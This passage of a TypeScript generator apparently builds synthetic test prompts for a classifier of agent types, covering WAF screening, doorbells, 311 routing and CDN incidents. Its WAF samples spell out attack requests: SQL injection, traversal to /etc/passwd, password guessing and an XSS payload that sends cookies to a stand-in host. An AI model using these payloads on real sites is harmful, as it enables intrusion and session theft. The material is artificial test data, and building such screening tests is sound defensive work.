// Cross-author families (wc-*): written from the type definitions only, by an author who never saw the classifier, its errors or the held-out families. Never trained on: they form tests/data/classifier/cross-author.jsonl (see CROSS_AUTHOR in build-dataset.ts).
import type { ChatMessage } from '../../../../src/core/types';
import {
  bool, calls, exchange, int, jsonSchema, langAt, list, num, obj, oneOf, pad, result, say, str, sys, t, tool, user,
  type Family, type Rng,
} from './kit';

const J = (x: unknown): string => JSON.stringify(x);
const JP = (x: unknown): string => JSON.stringify(x, null, 2);
const ip = (rng: Rng): string => `${rng.pick([45, 85, 103, 185, 198, 203])}.${rng.int(1, 254)}.${rng.int(0, 254)}.${rng.int(1, 254)}`;
const hhmm = (h: number, m: number): string => `${pad(h)}:${pad(m)}`;

// ---------------------------------------------------------------- simple_reflex

const wafSamples = [
  (rng: Rng) => `GET /catalog/item?id=${rng.int(100, 999)}%27%20OR%20%271%27%3D%271 HTTP/1.1\nHost: shop.example.net\nUser-Agent: sqlmap/1.7.${rng.int(1, 9)}#stable\nAccept: */*`,
  (rng: Rng) => `GET /static/../../../../etc/passwd HTTP/1.1\nHost: files.example.net\nUser-Agent: curl/8.${rng.int(1, 6)}.0`,
  (rng: Rng) => `POST /api/v2/cart/items HTTP/2\nHost: shop.example.net\nContent-Type: application/json\nCookie: sid=${rng.int(1e6, 9e6).toString(16)}\nUser-Agent: Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X)\n\n{"sku":"TS-${rng.int(1000, 9999)}","qty":${rng.int(1, 3)}}`,
  (rng: Rng) => `POST /account/login HTTP/1.1\nHost: shop.example.net\nUser-Agent: python-requests/2.31.0\nX-Client-Rate: ${rng.int(60, 240)} req/min from this IP\n\nusername=admin&password=${rng.pick(['123456', 'Winter2024!', 'letmein'])}`,
  (rng: Rng) => `GET /search?q=%3Cscript%3Efetch(%27//x.${rng.pick(['ru', 'top', 'xyz'])}/c?%27%2Bdocument.cookie)%3C/script%3E HTTP/1.1\nHost: shop.example.net\nReferer: https://shop.example.net/\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)`,
];

const wcSrWaf: Family = {
  id: 'wc-sr-waf-request',
  label: 'simple_reflex',
  difficulty: 'easy',
  rationale: 'Each call judges one HTTP request in isolation against fixed rules and returns a single verdict.',
  variants: 5,
  make(rng, i) {
    const lang = langAt(['en', 'en', 'de', 'en', 'es'], i);
    const sample = wafSamples[(i + rng.int(0, 4)) % wafSamples.length]!(rng);
    const src = ip(rng);
    const system = t(lang, {
      en: `You are the inline request screener for an e-commerce edge proxy. You see exactly one HTTP request. Return a verdict only.\n- block: injection payloads (SQL, script, template), path traversal, known scanner user agents.\n- challenge: credential stuffing patterns, automation against login/checkout, rate above 50 req/min on auth endpoints.\n- allow: everything else.\nRespond in under 80 ms; do not explain beyond the rule id.`,
      de: `Du bist der Inline-Filter für den Edge-Proxy eines Onlineshops. Du siehst genau eine HTTP-Anfrage und gibst nur ein Urteil zurück.\n- block: Injection-Payloads (SQL, Script, Template), Path Traversal, bekannte Scanner-User-Agents.\n- challenge: Credential-Stuffing-Muster, Automatisierung gegen Login/Checkout, mehr als 50 Anfragen pro Minute auf Auth-Endpunkten.\n- allow: alles andere.\nKeine Erklärung außer der Regel-ID.`,
      es: `Eres el filtro en línea del proxy perimetral de una tienda online. Ves exactamente una petición HTTP y devuelves solo un veredicto.\n- block: cargas de inyección (SQL, script, plantillas), path traversal, user agents de escáneres conocidos.\n- challenge: patrones de relleno de credenciales, automatización contra login o pago, más de 50 peticiones/min en endpoints de autenticación.\n- allow: todo lo demás.\nNo expliques nada salvo el id de la regla.`,
    });
    return {
      lang,
      messages: [sys(system), user(`src_ip=${src} asn=AS${rng.int(1000, 65000)}\n\n${sample}`)],
      response_format: jsonSchema('waf_verdict', { verdict: oneOf('allow', 'block', 'challenge'), rule_id: str }),
      max_tokens: rng.pick([40, 60, 64]),
      temperature: 0,
    };
  },
};

const wcSrDoorbell: Family = {
  id: 'wc-sr-doorbell-event',
  label: 'simple_reflex',
  difficulty: 'easy',
  rationale: 'One detector clip maps directly to one notification action by fixed rules, with nothing carried between clips.',
  variants: 5,
  make(rng, i) {
    const lang = langAt(['en', 'ja', 'en', 'zh', 'en'], i);
    const objects = rng.sample([
      { label: 'person', score: +(0.7 + rng.next() * 0.29).toFixed(2) },
      { label: 'package', score: +(0.6 + rng.next() * 0.35).toFixed(2) },
      { label: 'cat', score: +(0.5 + rng.next() * 0.45).toFixed(2) },
      { label: 'vehicle', score: +(0.5 + rng.next() * 0.45).toFixed(2) },
      { label: 'shadow_motion', score: +(0.4 + rng.next() * 0.5).toFixed(2) },
    ], rng.int(1, 3));
    const clip = {
      camera: rng.pick(['front_door', 'side_gate', 'driveway']),
      local_time: hhmm(rng.int(0, 23), rng.int(0, 59)),
      dwell_seconds: rng.int(2, 95),
      rang_bell: rng.chance(0.4),
      household_mode: rng.pick(['home', 'away', 'night', 'vacation']),
      detections: objects,
    };
    const rules = t(lang, {
      en: `Doorbell clip filter. Pick one action for the clip below.\nannounce_indoor: bell pressed while household_mode is home.\nnotify_push: person dwelling > 20 s, or any person while away/vacation/night, or package detected.\nnotify_silent: person passing (< 20 s) while home, or vehicle in driveway.\nignore: animals, shadow_motion, or nothing above 0.6.\nReply with the action name only.`,
      ja: `ドアベルのクリップ判定です。下のクリップに対してアクションを一つだけ選んでください。\nannounce_indoor: household_mode が home のときにベルが押された。\nnotify_push: 人物が20秒以上滞在、または away/vacation/night 中の人物、または荷物を検出。\nnotify_silent: home 中に人物が通過（20秒未満）、または車両が driveway に。\nignore: 動物、shadow_motion、またはスコア0.6未満のみ。\nアクション名だけを返してください。`,
      zh: `门铃视频片段过滤器。为下面的片段选择一个动作。\nannounce_indoor：household_mode 为 home 时按了门铃。\nnotify_push：有人停留超过20秒，或在 away/vacation/night 模式下出现任何人，或检测到包裹。\nnotify_silent：home 模式下有人路过（少于20秒），或车道上有车辆。\nignore：动物、shadow_motion，或所有检测分数都低于0.6。\n只回复动作名称。`,
    });
    const withSystem = i % 2 === 0;
    const messages: ChatMessage[] = withSystem
      ? [sys(rules), user(JP(clip))]
      : [user(`${rules}\n\n${J(clip)}`)];
    return {
      lang, messages,
      response_format: rng.chance(0.5)
        ? jsonSchema('doorbell_action', { action: oneOf('announce_indoor', 'notify_push', 'notify_silent', 'ignore') })
        : undefined,
      max_tokens: 16,
    };
  },
};

const wcSrLineCall: Family = {
  id: 'wc-sr-tennis-line-call',
  label: 'simple_reflex',
  difficulty: 'easy',
  rationale: 'A single bounce measurement is turned into in/out by a fixed rule, with no history or choice involved.',
  variants: 4,
  make(rng, i) {
    const lang = langAt(['en', 'fr', 'es', 'en'], i);
    const m = {
      court: `Court ${rng.int(1, 12)}`,
      line: rng.pick(['baseline', 'service line', 'singles sideline', 'centre service line']),
      mark_edge_to_line_outer_edge_mm: rng.pick([-4, -1, 0, 2, 6, 13]) + rng.int(0, 2),
      camera_confidence: +(0.45 + rng.next() * 0.5).toFixed(2),
      frames_used: rng.int(3, 9),
    };
    const q = t(lang, {
      en: `Bounce data from the review camera:\n${JP(m)}\nNegative distance means the mark overlaps the line. Any overlap is IN. If camera_confidence < 0.6 answer UNCLEAR. Answer IN, OUT or UNCLEAR.`,
      fr: `Données de rebond de la caméra d'arbitrage :\n${JP(m)}\nUne distance négative signifie que la trace chevauche la ligne. Tout chevauchement est BONNE. Si camera_confidence < 0,6, répondre INCERTAIN. Réponds BONNE, FAUTE ou INCERTAIN.`,
      es: `Datos del bote desde la cámara de revisión:\n${JP(m)}\nUna distancia negativa significa que la marca toca la línea. Cualquier contacto es BUENA. Si camera_confidence < 0,6 responde DUDOSA. Responde BUENA, MALA o DUDOSA.`,
    });
    const messages: ChatMessage[] = [];
    if (i !== 1) messages.push(sys(t(lang, { en: 'Club tournament line-call helper. One word answers.', fr: "Assistant d'arbitrage pour le tournoi du club. Réponses en un mot.", es: 'Asistente de cantos de línea del torneo del club. Respuestas de una palabra.' })));
    messages.push(user(q));
    return { lang, messages, max_tokens: 5, temperature: 0 };
  },
};

const wcSr311: Family = {
  id: 'wc-sr-311-routing',
  label: 'simple_reflex',
  difficulty: 'easy',
  rationale: 'A resident report is routed to one department in a single forced tool call, reacting only to the text at hand.',
  variants: 5,
  make(rng, i) {
    const lang = langAt(['es', 'en', 'pt', 'en', 'en'], i);
    const street = rng.pick(['Alder St', 'W 34th Ave', 'Calle Real', 'Rua das Flores', 'Maple Ct']);
    const n = rng.int(100, 4800);
    const reports: Record<string, string[]> = {
      en: [
        `There's a pothole about two feet wide in front of ${n} ${street}, cars are swerving into the bike lane.`,
        `The streetlight at ${street} and 5th has been flickering for a week and is now fully out.`,
        `Overflowing recycling bins behind the library on ${street}, nobody picked up Tuesday.`,
        `Loose dog, brown pit mix, no collar, wandering near the elementary school at ${n} ${street}.`,
        `Neighbor at ${n} ${street} is running an auto repair shop out of their garage, oil on the sidewalk.`,
      ],
      es: [
        `Hay un bache enorme frente al ${n} de ${street}, los coches se están metiendo al carril bici.`,
        `El semáforo peatonal de ${street} con la 5 no cambia nunca a verde, la gente cruza en rojo.`,
        `Un árbol del parque junto a ${street} se partió con el viento y una rama bloquea el sendero.`,
      ],
      pt: [
        `Tem um buraco grande na frente do número ${n} da ${street}, os carros estão desviando para a ciclovia.`,
        `O lixo reciclável não foi recolhido esta semana na ${street}, os contêineres estão transbordando.`,
        `Cachorro solto sem coleira perto da escola na ${street}, parece perdido.`,
      ],
    };
    const pool = reports[lang] ?? reports.en!;
    const text = pool[(i + rng.int(0, 5)) % pool.length]!;
    const depts = ['public_works', 'streets_lighting', 'transportation', 'parks', 'sanitation', 'animal_services', 'code_enforcement'];
    const route = tool('route_request', 'Send the 311 request to a city department queue.', {
      department: oneOf(...depts),
      after_hours_page: { type: 'boolean', description: 'true only for hazards to life or traffic' },
      summary: { type: 'string', description: 'max 12 words, English' },
    });
    return {
      lang,
      messages: [
        sys(`City of ${rng.pick(['Riverside', 'Fairview', 'Lakewood', 'Milton'])} 311 intake. Residents write in English, Spanish or Portuguese. Call route_request exactly once for the message. Do not reply to the resident; a separate service does that.`),
        user(text),
      ],
      tools: [route],
      tool_choice: { type: 'function', function: { name: 'route_request' } },
    };
  },
};

const wcSrOnt: Family = {
  id: 'wc-sr-ont-lights',
  label: 'simple_reflex',
  difficulty: 'easy',
  rationale: 'The described light pattern on the fibre box maps straight to one scripted action.',
  variants: 4,
  make(rng, i) {
    const lang = langAt(['pt', 'en', 'de', 'en'], i);
    const pattern = rng.pick([
      { en: 'PON light blinking green, LOS off, internet light off', pt: 'a luz PON está piscando verde, LOS apagada, luz de internet apagada', de: 'PON-Lampe blinkt grün, LOS aus, Internet-Lampe aus' },
      { en: 'red LOS light on steady, everything else off except power', pt: 'a luz LOS vermelha está acesa fixa, o resto apagado menos a energia', de: 'rote LOS-Lampe leuchtet dauerhaft, alles andere aus außer Power' },
      { en: 'no lights at all, not even power', pt: 'nenhuma luz acesa, nem a de energia', de: 'gar keine Lampen, nicht einmal Power' },
      { en: 'all green but wifi light off', pt: 'tudo verde mas a luz do wifi apagada', de: 'alles grün, nur die WLAN-Lampe ist aus' },
    ]);
    const desc = pattern[lang as 'en' | 'pt' | 'de'] ?? pattern.en;
    const msg = t(lang, {
      en: `hi my internet is down since ${rng.pick(['this morning', 'last night', 'about an hour ago'])}. on the white fibre box: ${desc}. what do I do`,
      pt: `oi, minha internet caiu desde ${rng.pick(['hoje de manhã', 'ontem à noite', 'uma hora atrás'])}. na caixinha branca da fibra: ${desc}. o que eu faço?`,
      de: `Hallo, mein Internet geht seit ${rng.pick(['heute Morgen', 'gestern Abend', 'einer Stunde'])} nicht. Am weißen Glasfaser-Kasten: ${desc}. Was soll ich tun?`,
    });
    const schema = jsonSchema('ont_action', {
      action: oneOf('check_power_outlet', 'reboot_ont', 'reseat_fibre_patch', 'dispatch_technician', 'check_router_wifi'),
      customer_message: str,
    });
    return {
      lang,
      messages: [
        sys(`FibraNet chat first-line bot. Map the ONT light pattern to exactly one action. LOS red = fibre cut or unplugged patch -> reseat_fibre_patch first time, dispatch_technician if customer says already tried. No lights = check_power_outlet. PON blinking = reboot_ont. All green but wifi off = check_router_wifi. customer_message: one short sentence in the customer's language.`),
        user(msg),
      ],
      response_format: schema,
      max_tokens: 120,
    };
  },
};

const wcSrQpcr: Family = {
  id: 'wc-sr-qpcr-call',
  label: 'simple_reflex',
  difficulty: 'medium',
  rationale: 'One well\'s Ct and melt values are called against fixed cut-offs, returning a single category.',
  variants: 4,
  make(rng, i) {
    const lang = langAt(['en', 'zh', 'en', 'ja'], i);
    const well = `${rng.pick(['A', 'B', 'C', 'D', 'E', 'F', 'G', 'H'])}${rng.int(1, 12)}`;
    const target = rng.chance(0.3) ? null : +(rng.int(180, 420) / 10).toFixed(1);
    const ic = rng.chance(0.2) ? null : +(rng.int(240, 330) / 10).toFixed(1);
    const row = `well=${well} sample=S-${rng.int(1000, 9999)} target_Ct=${target ?? 'Undetermined'} target_Tm=${target ? (79 + rng.next() * 6).toFixed(1) : 'NA'} IC_Ct=${ic ?? 'Undetermined'} NTC_ok=${rng.chance(0.85)}`;
    const rules = t(lang, {
      en: 'Call the well. Rules: NTC_ok=false -> invalid. IC undetermined and target undetermined -> invalid. target Ct <= 35 and Tm 81.0-83.5 -> positive. target Ct 35-40 or Tm outside window -> inconclusive. target undetermined with IC Ct <= 32 -> negative.',
      zh: '判读这个孔。规则：NTC_ok=false -> invalid。内参和靶标都未检出 -> invalid。靶标 Ct <= 35 且 Tm 在 81.0-83.5 之间 -> positive。靶标 Ct 在 35-40 之间或 Tm 超出范围 -> inconclusive。靶标未检出且内参 Ct <= 32 -> negative。',
      ja: 'ウェルを判定してください。ルール：NTC_ok=false -> invalid。内部コントロールと標的の両方が未検出 -> invalid。標的 Ct <= 35 かつ Tm が 81.0-83.5 -> positive。標的 Ct が 35-40、または Tm が範囲外 -> inconclusive。標的未検出で IC Ct <= 32 -> negative。',
    });
    return {
      lang,
      messages: [sys(rules), user(row)],
      response_format: jsonSchema('well_call', { well: str, call: oneOf('positive', 'negative', 'inconclusive', 'invalid') }),
      max_tokens: 30,
      temperature: 0,
    };
  },
};

// ---------------------------------------------------------------- model_based_reflex

const wcMbCdn: Family = {
  id: 'wc-mb-cdn-incident',
  label: 'model_based_reflex',
  difficulty: 'hard',
  rationale: 'The assistant pieces together a partly visible outage from successive log and metric pulls and is asked where things stand now.',
  variants: 5,
  make(rng, i) {
    const lang = langAt(['en', 'en', 'de', 'en', 'en'], i);
    const pops = rng.sample(['ams1', 'fra2', 'lhr3', 'cdg1', 'mad1', 'waw1', 'arn1'], 4);
    const cfg = rng.int(4100, 4999);
    const t0 = rng.int(9, 20);
    const tools = [
      tool('query_logs', 'Run a LogQL query against edge logs.', { query: str, since_minutes: int, limit: int }),
      tool('get_metrics', 'Fetch a PromQL range query, 1m step.', { promql: str, minutes: int }),
      tool('get_deploys', 'List config/code deploys to the edge fleet.', { since_minutes: int }),
    ];
    const m: ChatMessage[] = [
      sys(`You are the incident copilot for the edge/CDN on-call rotation. You cannot see the fleet directly; you only know what the tools return and what humans tell you in the channel. Keep a running picture of which POPs are affected, suspected cause, and what mitigations are in flight. When asked, summarise the current picture in <=8 bullet points, flag what is still unknown, and suggest the single next check. Never run write operations.`),
      user(t(lang, {
        en: `PagerDuty: EdgeHigh5xx firing since ${hhmm(t0, 2)} UTC for ${pops[0]}, ${pops[1]}. Start digging.`,
        de: `PagerDuty: EdgeHigh5xx feuert seit ${hhmm(t0, 2)} UTC für ${pops[0]}, ${pops[1]}. Fang an zu graben.`,
      })),
    ];
    exchange(rng, m, 'get_metrics', { promql: 'sum by (pop) (rate(edge_responses_total{code=~"5.."}[1m])) / sum by (pop) (rate(edge_responses_total[1m]))', minutes: 30 },
      J({ resultType: 'matrix', result: pops.map((p, k) => ({ metric: { pop: p }, last: +(k < 2 ? 0.08 + rng.next() * 0.2 : rng.next() * 0.004).toFixed(4), trend: k < 2 ? 'rising' : 'flat' })) }));
    exchange(rng, m, 'get_deploys', { since_minutes: 90 },
      J([{ id: `cfg-${cfg}`, kind: 'edge-config', at: `${hhmm(t0 - 1, 51)}Z`, author: rng.pick(['mkowalski', 'asato', 'jdiaz']), summary: 'origin shield pool weights + new TLS ciphers', rollout: { done: [pops[0], pops[1], pops[2]], pending: [pops[3]] } }]));
    exchange(rng, m, 'query_logs', { query: `{app="edge", pop=~"${pops[0]}|${pops[1]}"} |= "upstream" | json | status>=500`, since_minutes: 20, limit: 5 },
      [
        `${hhmm(t0, 4)}:11Z ${pops[0]} edge-${rng.int(10, 40)} status=502 upstream=shield-${pops[2]} err="tls: handshake failure" dur_ms=12`,
        `${hhmm(t0, 4)}:12Z ${pops[1]} edge-${rng.int(10, 40)} status=502 upstream=shield-${pops[2]} err="tls: handshake failure" dur_ms=9`,
        `${hhmm(t0, 5)}:40Z ${pops[0]} edge-${rng.int(10, 40)} status=504 upstream=origin-eu err="context deadline exceeded" dur_ms=30001`,
        `${hhmm(t0, 6)}:02Z ${pops[1]} edge-${rng.int(10, 40)} status=502 upstream=shield-${pops[2]} err="tls: handshake failure" dur_ms=11`,
      ].join('\n'));
    m.push(say(`Picture so far: ${pops[0]} and ${pops[1]} are throwing 502s, almost all on connections to the ${pops[2]} shield with TLS handshake failures; this lines up with cfg-${cfg} (new TLS ciphers) which reached those POPs. ${pops[2]} itself looks clean from the client side. ${pops[3]} hasn't received the config yet. Unknown: whether ${pops[2]}'s shield listener actually accepts the new cipher list.`));
    const extra = i % 3;
    if (extra >= 1) {
      m.push(user(t(lang, {
        en: `fyi ${rng.pick(['Marta', 'Ken', 'Jorge'])} paused the rollout at ${hhmm(t0, 14)} and started reverting cfg-${cfg} on ${pops[0]} only`,
        de: `Zur Info: ${rng.pick(['Marta', 'Ken', 'Jorge'])} hat den Rollout um ${hhmm(t0, 14)} pausiert und cfg-${cfg} nur auf ${pops[0]} zurückgerollt`,
      })));
      exchange(rng, m, 'get_metrics', { promql: 'sum by (pop) (rate(edge_responses_total{code=~"5.."}[1m])) / sum by (pop) (rate(edge_responses_total[1m]))', minutes: 10 },
        J({ resultType: 'matrix', result: [{ metric: { pop: pops[0] }, last: 0.011, trend: 'falling' }, { metric: { pop: pops[1] }, last: +(0.15 + rng.next() * 0.1).toFixed(3), trend: 'flat' }, { metric: { pop: pops[2] }, last: +(0.02 + rng.next() * 0.05).toFixed(3), trend: 'rising' }] }));
    }
    if (extra === 2) {
      exchange(rng, m, 'query_logs', { query: `{app="edge", pop="${pops[2]}"} |= "origin" | json | status>=500`, since_minutes: 10, limit: 3 },
        `${hhmm(t0, 19)}:03Z ${pops[2]} shield-2 status=503 upstream=origin-eu err="connection pool exhausted" inflight=4096\n${hhmm(t0, 19)}:05Z ${pops[2]} shield-4 status=503 upstream=origin-eu err="connection pool exhausted" inflight=4096`);
    }
    m.push(user(t(lang, {
      en: rng.pick(['ok where are we now? IC wants an update in 5', 'status update please: what is still broken and why', 'summarise for the incident channel: what do we know, what do we not know']),
      de: 'Okay, wo stehen wir jetzt? Der Incident Commander will in 5 Minuten ein Update.',
    })));
    return { lang, messages: m, tools, temperature: 0.2 };
  },
};

const wcMbShoe: Family = {
  id: 'wc-mb-blackjack-shoe',
  label: 'model_based_reflex',
  secondary: 'utility_based',
  difficulty: 'medium',
  rationale: 'The assistant keeps a running picture of an unseen shoe from cards revealed round by round and reacts to the new hand with it.',
  variants: 4,
  make(rng, i) {
    const lang = langAt(['en', 'es', 'en', 'ja'], i);
    const ranks = ['2', '3', '4', '5', '6', '7', '8', '9', '10', 'J', 'Q', 'K', 'A'];
    const hilo = (c: string): number => (['2', '3', '4', '5', '6'].includes(c) ? 1 : ['10', 'J', 'Q', 'K', 'A'].includes(c) ? -1 : 0);
    let rc = 0;
    let seen = 0;
    const m: ChatMessage[] = [
      sys(t(lang, {
        en: 'Practice-table companion for a blackjack trainer app (6 decks, S17, DAS, no surrender). The user reports each round\'s visible cards. Keep the Hi-Lo running count and cards seen; after each round reply with RC, decks remaining (to 0.5) and true count. When the user asks about a hand, use basic strategy plus the Illustrious 18 deviations at the current true count.',
        es: 'Acompañante de mesa de práctica para una app de entrenamiento de blackjack (6 barajas, S17, DAS, sin rendición). El usuario informa las cartas visibles de cada ronda. Lleva la cuenta Hi-Lo y las cartas vistas; tras cada ronda responde con la cuenta corrida, barajas restantes (a 0,5) y cuenta real. Cuando pregunte por una mano, usa la estrategia básica más las desviaciones Illustrious 18 con la cuenta real actual.',
        ja: 'ブラックジャック練習アプリのテーブル補助です（6デッキ、S17、DAS、サレンダーなし）。ユーザーが各ラウンドで見えたカードを報告します。Hi-Lo のランニングカウントと既出枚数を保持し、各ラウンド後に RC、残りデッキ数（0.5単位）、トゥルーカウントを返してください。ハンドについて聞かれたら、現在のトゥルーカウントでベーシックストラテジーと Illustrious 18 の例外を使ってください。',
      })),
    ];
    const rounds = rng.int(3, 9);
    for (let r = 1; r <= rounds; r++) {
      const cards = Array.from({ length: rng.int(7, 13) }, () => rng.pick(ranks));
      cards.forEach((c) => { rc += hilo(c); });
      seen += cards.length;
      const left = Math.max(0.5, Math.round(((312 - seen - 60) / 52) * 2) / 2);
      m.push(user(t(lang, { en: `round ${r + rng.int(0, 2) * 10}: ${cards.join(' ')}`, es: `ronda ${r}: ${cards.join(' ')}`, ja: `ラウンド${r}: ${cards.join(' ')}` })));
      m.push(say(`RC ${rc >= 0 ? '+' : ''}${rc} · ~${left} decks · TC ${(rc / left).toFixed(1)}`));
    }
    const hand = rng.pick([['10', '6', '10'], ['9', '3', '2'], ['7', '5', '4'], ['A', '7', '9'], ['10', '2', '3']]);
    m.push(user(t(lang, {
      en: `new hand, I have ${hand[0]}+${hand[1]} vs dealer ${hand[2]}. hit, stand or double?`,
      es: `nueva mano: tengo ${hand[0]}+${hand[1]} contra ${hand[2]} del crupier. ¿pido, me planto o doblo?`,
      ja: `新しいハンド：${hand[0]}+${hand[1]}、ディーラーのアップカードは${hand[2]}。ヒット、スタンド、ダブル？`,
    })));
    return { lang, messages: m, max_tokens: rng.pick([60, 100, 150]) };
  },
};

const wcMbPresence: Family = {
  id: 'wc-mb-home-presence',
  label: 'model_based_reflex',
  difficulty: 'medium',
  rationale: 'Occupancy is never observed directly, so the assistant infers who is where from a trail of sensor events before answering.',
  variants: 5,
  make(rng, i) {
    const lang = langAt(['de', 'en', 'ja', 'en', 'en'], i);
    const people = rng.sample(['Lena', 'Tom', 'Yuki', 'Sam', 'Priya'], 2);
    const h = rng.int(21, 23);
    const events = [
      { t: `${hhmm(h, 2)}`, sensor: 'geofence', who: people[0], ev: 'arrived_home' },
      { t: `${hhmm(h, 4)}`, sensor: 'front_door_contact', ev: 'open_close' },
      { t: `${hhmm(h, 5)}`, sensor: 'motion_hallway', ev: 'motion' },
      { t: `${hhmm(h, 11)}`, sensor: 'motion_kitchen', ev: 'motion' },
      { t: `${hhmm(h, 26)}`, sensor: 'motion_stairs', ev: 'motion' },
      { t: `${hhmm(h, 27)}`, sensor: 'motion_bedroom_1', ev: 'motion' },
      { t: `${hhmm(h, 31)}`, sensor: 'back_door_contact', ev: rng.pick(['open', 'open_close']) },
      { t: `${hhmm(h, 33)}`, sensor: 'motion_garden', ev: 'motion' },
      { t: `${hhmm(h, 40)}`, sensor: 'geofence', who: people[1], ev: rng.pick(['left_home', 'no_update_since_18:40']) },
    ];
    const cut = rng.int(6, 9);
    const tools = [
      tool('get_events', 'Sensor events from the hub, oldest first.', { since: str, sensors: list(str) }),
      tool('get_device', 'Current reading of a single device.', { device_id: str }),
    ];
    const m: ChatMessage[] = [
      sys(t(lang, {
        en: 'You are the house assistant on a Home Assistant hub. You can only read sensors, not cameras. Motion sensors have a 4-minute blind period after triggering. Phones sometimes drop off geofencing. Reason from the event trail about where people probably are before you recommend anything. Answer briefly.',
        de: 'Du bist der Hausassistent auf einem Home-Assistant-Hub. Du kannst nur Sensoren lesen, keine Kameras. Bewegungsmelder sind nach dem Auslösen 4 Minuten blind. Handys fallen manchmal aus dem Geofencing. Leite aus der Ereigniskette ab, wo sich die Personen vermutlich aufhalten, bevor du etwas empfiehlst. Antworte knapp.',
        ja: 'あなたは Home Assistant ハブ上の家庭アシスタントです。読めるのはセンサーだけで、カメラは見られません。人感センサーは反応後4分間は反応しません。スマホのジオフェンスは時々途切れます。何かを勧める前に、イベントの流れから誰がどこにいそうかを推測してください。簡潔に答えてください。',
      })),
      user(t(lang, {
        en: `I'm in bed. Can I lock the back door and arm night mode, or is someone still outside?`,
        de: `Ich liege schon im Bett. Kann ich die Hintertür abschließen und den Nachtmodus scharf schalten, oder ist noch jemand draußen?`,
        ja: `もう寝室にいます。裏口を施錠してナイトモードを有効にしていい？まだ誰か外にいる？`,
      })),
    ];
    exchange(rng, m, 'get_events', { since: hhmm(h, 0), sensors: ['*'] }, J(events.slice(0, cut)));
    if (cut < 9 || rng.chance(0.5)) {
      exchange(rng, m, 'get_device', { device_id: 'binary_sensor.back_door_contact' }, J({ entity_id: 'binary_sensor.back_door_contact', value: rng.pick(['open', 'closed']), last_changed: `${hhmm(h, 31)}:4${rng.int(0, 9)}` }));
    }
    if (i % 2 === 1) exchange(rng, m, 'get_events', { since: hhmm(h, 34), sensors: ['motion_garden', 'motion_kitchen', 'back_door_contact'] }, J(rng.chance(0.5) ? [] : [{ t: hhmm(h, 44), sensor: 'motion_garden', ev: 'motion' }]));
    return { lang, messages: m, tools };
  },
};

const wcMbHandover: Family = {
  id: 'wc-mb-ue-handover',
  label: 'model_based_reflex',
  secondary: 'simple_reflex',
  difficulty: 'hard',
  rationale: 'The controller tracks a moving handset\'s radio conditions over successive measurement reports and acts on the trend, not a single report.',
  variants: 4,
  make(rng, i) {
    const lang = langAt(['en', 'zh', 'en', 'de'], i);
    const serving = rng.int(100, 499);
    const nb = [rng.int(100, 499), rng.int(100, 499)];
    let s = -84 - rng.int(0, 4);
    let n1 = -101 - rng.int(0, 5);
    let n2 = -98 - rng.int(0, 6);
    const m: ChatMessage[] = [
      sys(t(lang, {
        en: `xApp decision helper for a near-RT RIC. Each user message is one periodic measurement report (200 ms) for UE ${rng.int(1000, 9999)}. Reports are noisy; a single report must never trigger a handover. A3 offset 3 dB, time-to-trigger 3 consecutive reports, hysteresis 1 dB. Reply to each report with HOLD or HANDOVER <pci>, plus one line on the trend you are tracking.`,
        zh: `近实时 RIC 的 xApp 决策助手。每条用户消息是 UE ${rng.int(1000, 9999)} 的一份周期性测量报告（200 毫秒）。报告有噪声，单份报告绝不能触发切换。A3 偏置 3 dB，触发时间为连续 3 份报告，迟滞 1 dB。对每份报告回复 HOLD 或 HANDOVER <pci>，再用一行说明你跟踪到的趋势。`,
        de: `Entscheidungshelfer einer xApp im Near-RT RIC. Jede Nutzernachricht ist ein periodischer Messbericht (200 ms) für UE ${rng.int(1000, 9999)}. Berichte sind verrauscht; ein einzelner Bericht darf nie einen Handover auslösen. A3-Offset 3 dB, Time-to-Trigger 3 aufeinanderfolgende Berichte, Hysterese 1 dB. Antworte auf jeden Bericht mit HOLD oder HANDOVER <pci> und einer Zeile zum beobachteten Trend.`,
      })),
    ];
    const reports = rng.int(5, 10);
    let streak = 0;
    for (let k = 0; k < reports; k++) {
      s -= rng.int(1, 4);
      n1 += rng.int(1, 4);
      n2 += rng.int(-2, 2);
      const rep = { seq: 40 + k, serving: { pci: serving, rsrp: s, sinr: +(14 - k * 1.6 + rng.next()).toFixed(1) }, neighbours: [{ pci: nb[0], rsrp: n1 }, { pci: nb[1], rsrp: n2 }], cqi: Math.max(3, 12 - k) };
      m.push(user(J(rep)));
      if (k < reports - 1) {
        streak = n1 > s + 4 ? streak + 1 : 0;
        m.push(say(streak > 0 ? `HOLD - ${nb[0]} above serving+offset+hyst, TTT ${Math.min(streak, 2)}/3` : `HOLD - serving falling ~${rng.int(1, 3)} dB/report, ${nb[0]} rising, ${nb[1]} flat`));
      }
    }
    return { lang, messages: m, max_tokens: 40, temperature: 0 };
  },
};

const wcMbCulture: Family = {
  id: 'wc-mb-cell-culture-log',
  label: 'model_based_reflex',
  difficulty: 'medium',
  rationale: 'The assistant rebuilds the condition of a flask it cannot see from days of notebook and imaging entries, then says what it needs today.',
  variants: 4,
  make(rng, i) {
    const lang = langAt(['fr', 'en', 'en', 'pt'], i);
    const line = rng.pick(['HeLa', 'HEK293T', 'A549', 'MCF-7', 'Vero']);
    const flask = `${line}-P${rng.int(8, 24)}-${rng.pick(['A', 'B', 'C'])}`;
    const d0 = rng.int(3, 20);
    const entries = [
      { date: `2026-03-${pad(d0)}`, who: 'NK', note: 'seeded 1.5e6 in T75, 12 mL DMEM/10% FBS', confluence_pct: 15 },
      { date: `2026-03-${pad(d0 + 1)}`, who: 'NK', note: 'attached well, few floaters', confluence_pct: 30 },
      { date: `2026-03-${pad(d0 + 2)}`, who: rng.pick(['RB', 'JL']), note: rng.pick(['medium slightly orange', 'medium orange-yellow, did not change']), confluence_pct: 55 },
      { date: `2026-03-${pad(d0 + 3)}`, who: 'NK', note: rng.pick(['medium yellow, some cloudiness?', 'medium yellow, cells look granular', 'medium changed, 12 mL']), confluence_pct: rng.int(70, 90) },
    ];
    const tools = [
      tool('read_notebook', 'Return ELN entries for a flask id.', { flask_id: str }),
      tool('get_imaging', 'Latest automated imager result for a flask.', { flask_id: str }),
      tool('get_incubator_log', 'Incubator sensor summary for the last N hours.', { incubator: str, hours: int }),
    ];
    const m: ChatMessage[] = [
      sys('Bench assistant for the tissue culture room. You read the electronic lab notebook, the automated imager and incubator sensors. Flasks are only seen when someone logs them; gaps happen. Give a short assessment of the flask as it is now and the one thing to do today (feed, passage, discard, check mycoplasma, leave).'),
      user(t(lang, {
